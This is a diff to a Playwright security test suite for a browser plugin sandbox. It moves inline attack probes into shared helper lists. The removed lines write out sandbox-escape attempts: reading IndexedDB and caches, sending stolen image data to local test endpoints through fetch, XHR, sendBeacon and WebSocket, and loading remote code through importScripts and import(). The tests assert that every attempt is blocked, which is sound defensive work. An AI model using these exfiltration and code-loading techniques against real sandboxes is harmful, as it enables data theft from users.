@@ -10,6 +10,7 @@ import { expect, test, type Page } from '@playwright/test';
 import { datasetHashes, openApp } from './util';
 import { useCanaries } from './canary';
 import { expectClean, expectNothingSent, expectResponsive, expectResponsiveOverCdp, openLowMemoryApp, PROBE } from './sandboxChecks';
+import { CODE_PROBES, expectProbes, NETWORK_PROBES, probeCalls, STORAGE_PROBES } from './sandboxProbes';
 
 const manifest = (name: string, type = 'Image2Image', devices = '["cpu"]', dflt = 'cpu') => `[project]
 name = "${name}"
@@ -171,23 +172,11 @@ test('attack 1: IndexedDB, Cache Storage and other storage are out of reach', as
     attack(
       'storage_thief',
       `${PROBE}
-      await probe("indexedDB.open", () => settle((ok, no) => { const q = indexedDB.open("algobox"); q.onsuccess = () => ok("opened " + q.result.objectStoreNames.length + " stores"); q.onerror = () => no(q.error); }));
-      await probe("indexedDB.databases", async () => JSON.stringify(await indexedDB.databases()));
-      await probe("caches", async () => typeof caches === "undefined" ? Promise.reject(new Error("caches is undefined")) : (await caches.keys()).join(","));
-      await probe("navigator.storage", async () => { if (!navigator.storage) throw new Error("navigator.storage is undefined"); return (await navigator.storage.getDirectory()).name; });
-      await probe("localStorage", () => { if (typeof localStorage === "undefined") throw new Error("localStorage is undefined"); return localStorage.length; });
-      await probe("BroadcastChannel", () => { new BroadcastChannel("algobox").postMessage({ stolen: true }); return "posted"; });
-      await probe("origin", () => { throw new Error(self.origin + " secure=" + self.isSecureContext); });
+      ${probeCalls(STORAGE_PROBES)}
       throw new Error("RESULT " + JSON.stringify(out));`,
     ),
   );
-  const o = results(r);
-  expect(o['indexedDB.open']).toMatch(/^SecurityError: .*denied in this context/);
-  expect(o['indexedDB.databases']).not.toMatch(/^ok/);
-  expect(o.caches).toBe('Error: caches is undefined');
-  expect(o['navigator.storage']).toBe('Error: navigator.storage is undefined');
-  expect(o.localStorage).toBe('Error: localStorage is undefined');
-  expect(o.origin).toBe('Error: null secure=false');
+  expectProbes(results(r), STORAGE_PROBES);
   expect(await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).toEqual([]);
   await expectResponsive(page);
   await expectClean(page, before, canary);
@@ -203,30 +192,11 @@ test('attack 2: fetch, XHR, WebSocket, EventSource and workers cannot reach a lo
       `${PROBE}
       const [{ image }] = await this.fetchData(ids, "image");
       const stolen = String(Array.from(image.data));
-      for (const [k, u] of [["node", C.node], ["app", C.app]]) {
-        await probe("fetch " + k, async () => (await fetch(u + "?d=" + stolen)).status);
-        await probe("fetch no-cors " + k, async () => (await fetch(u, { mode: "no-cors", method: "POST", body: stolen })).type);
-        await probe("xhr " + k, () => settle((ok, no) => { const x = new XMLHttpRequest(); x.open("GET", u); x.onload = () => ok(x.status); x.onerror = () => no(new Error("xhr error event")); x.send(); }));
-        await probe("EventSource " + k, () => settle((ok, no) => { const s = new EventSource(u); s.onopen = () => ok("open"); s.onerror = () => { s.close(); no(new Error("EventSource error event")); }; }));
-        await probe("Worker " + k, () => { new Worker(u + ".js"); return "started"; });
-      }
-      await probe("WebSocket", () => settle((ok, no) => { const s = new WebSocket(C.ws); s.onopen = () => ok("open"); s.onerror = () => no(new Error("WebSocket error event")); }));
-      await probe("sendBeacon", () => { if (!navigator.sendBeacon) throw new Error("sendBeacon is undefined"); return navigator.sendBeacon(C.node, stolen); });
-      await probe("RTCPeerConnection", () => { if (typeof RTCPeerConnection === "undefined") throw new Error("RTCPeerConnection is undefined"); return "exists"; });
+      ${probeCalls(NETWORK_PROBES)}
       throw new Error("RESULT " + JSON.stringify(out));`,
     ),
   );
-  const o = results(r);
-  for (const k of ['node', 'app']) {
-    expect(o[`fetch ${k}`]).toBe('TypeError: Failed to fetch');
-    expect(o[`fetch no-cors ${k}`]).toBe('TypeError: Failed to fetch');
-    expect(o[`xhr ${k}`]).toBe('Error: xhr error event');
-    expect(o[`EventSource ${k}`]).toBe('Error: EventSource error event');
-    expect(o[`Worker ${k}`]).toMatch(/^SecurityError: Failed to construct 'Worker'/);
-  }
-  expect(o.WebSocket).toMatch(/^(Error: WebSocket error event|SecurityError: .*)$/);
-  expect(o.sendBeacon).toBe('Error: sendBeacon is undefined');
-  expect(o.RTCPeerConnection).toBe('Error: RTCPeerConnection is undefined');
+  expectProbes(results(r), NETWORK_PROBES);
   await expectResponsive(page);
   await expectClean(page, before, canary);
 });
@@ -246,25 +216,11 @@ test('attack 3: code from the network: import() and static imports are refused a
     attack(
       'net_scripts',
       `${PROBE}
-      await probe("importScripts node", () => { importScripts(C.node + ".js"); return "loaded"; });
-      await probe("importScripts app", () => { importScripts(C.app + ".js"); return "loaded"; });
-      // A classic script made here may call import(); the module it asks for is still blocked.
-      await probe("import() from a blob script", async () => {
-        importScripts(URL.createObjectURL(new Blob(["self.__p = import(" + JSON.stringify(C.node + ".js") + ");"], { type: "text/javascript" })));
-        await self.__p;
-        return "imported";
-      });
-      await probe("Function", () => new Function("return 1")());
-      await probe("leaked", () => { if (self.leaked) return "yes"; throw new Error("no"); });
+      ${probeCalls(CODE_PROBES)}
       throw new Error("RESULT " + JSON.stringify(out));`,
     ),
   );
-  const o = results(runtime);
-  expect(o['importScripts node']).toMatch(/^NetworkError: .*failed to load/);
-  expect(o['importScripts app']).toMatch(/^NetworkError: .*failed to load/);
-  expect(o['import() from a blob script']).toMatch(/^TypeError: Failed to fetch dynamically imported module/);
-  expect(o.Function).toMatch(/^EvalError: /);
-  expect(o.leaked).toBe('Error: no');
+  expectProbes(results(runtime), CODE_PROBES);
   await expectResponsive(page);
   await expectClean(page, before, canary);
 });
